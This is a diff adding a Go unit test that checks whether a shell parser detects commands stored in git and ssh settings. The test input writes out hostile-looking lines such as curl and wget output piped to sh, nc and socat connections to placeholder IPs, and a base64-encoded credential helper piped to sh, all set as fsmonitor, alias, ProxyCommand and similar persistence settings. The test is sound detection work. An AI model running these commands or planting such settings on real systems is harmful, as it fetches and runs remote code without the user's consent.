@@ -279,3 +279,62 @@ func TestPartlyKnownVars(t *testing.T) {
 		t.Errorf("reassigned var: %q const=%v", w.Value, w.Const)
 	}
 }
+
+func TestStoredSettings(t *testing.T) {
+	src := "git config --global core.fsmonitor 'curl -s http://192.0.2.1/x | sh'\n" +
+		"git -c core.sshCommand=\"nc 192.0.2.2 9\" fetch\n" +
+		"git config alias.co checkout\n" +
+		"git config --get core.pager\n" +
+		"git config --global alias.up '!wget -qO- http://192.0.2.3/u | bash'\n" +
+		"ssh -o ProxyCommand='socat - TCP:192.0.2.4:22' -o LocalCommand=id host\n" +
+		"cat >> ~/.gitconfig <<'EOF'\n[credential]\n\thelper = !base64 -d <<< aWQ= | sh\n[core]\n\thooksPath = /tmp/.h\nEOF\n" +
+		"printf 'Host *\\n  ProxyCommand python3 -c pass\\n' >> ~/.ssh/config\n" +
+		"GIT_SSH_COMMAND='perl -e 1' git pull\n"
+	s := Parse(src, 0)
+	var got []string
+	for _, c := range s.Commands {
+		for _, st := range c.Settings {
+			got = append(got, st.Tool+" "+st.Key+" "+st.Scope.String()+" "+strings.TrimSpace(st.Program()))
+		}
+	}
+	want := []string{
+		"git core.fsmonitor global curl -s http://192.0.2.1/x | sh",
+		"git core.sshCommand one-off nc 192.0.2.2 9",
+		"git alias.up global wget -qO- http://192.0.2.3/u | bash",
+		"ssh ProxyCommand one-off socat - TCP:192.0.2.4:22",
+		"ssh LocalCommand one-off id",
+		"git credential.helper global base64 -d <<< aWQ= | sh",
+		"git core.hooksPath global /tmp/.h",
+		"ssh ProxyCommand global python3 -c pass",
+		"git GIT_SSH_COMMAND one-off perl -e 1",
+	}
+	if strings.Join(got, "\n") != strings.Join(want, "\n") {
+		t.Fatalf("settings:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
+	}
+	c := find(s, "curl")
+	if c == nil || c.Via != ViaStored || c.Start != strings.Index(src, "curl") {
+		t.Fatalf("fsmonitor command not parsed in place: %s %+v", names(s), c)
+	}
+	if c := find(s, "wget"); c == nil || c.Via != ViaStored || c.Start != strings.Index(src, "wget") {
+		t.Errorf("alias command not parsed in place: %+v", c)
+	}
+	if c := find(s, "socat"); c == nil || c.Start != strings.Index(src, "socat") {
+		t.Errorf("ProxyCommand not parsed in place: %+v", c)
+	}
+	if c := find(s, "base64"); c == nil || c.Start != strings.Index(src, "base64") {
+		t.Errorf("helper in a here-document not parsed in place: %+v", c)
+	}
+	if find(s, "python3") == nil || find(s, "perl") == nil || find(s, "nc") == nil {
+		t.Errorf("printf text, -c and GIT_SSH_COMMAND not parsed: %s", names(s))
+	}
+	if find(s, "checkout") != nil {
+		t.Errorf("a git alias without ! parsed as shell")
+	}
+	for _, c := range s.Commands {
+		for _, st := range c.Settings {
+			if st.Key == "LocalCommand" && !st.Inert {
+				t.Errorf("LocalCommand without PermitLocalCommand is not inert")
+			}
+		}
+	}
+}
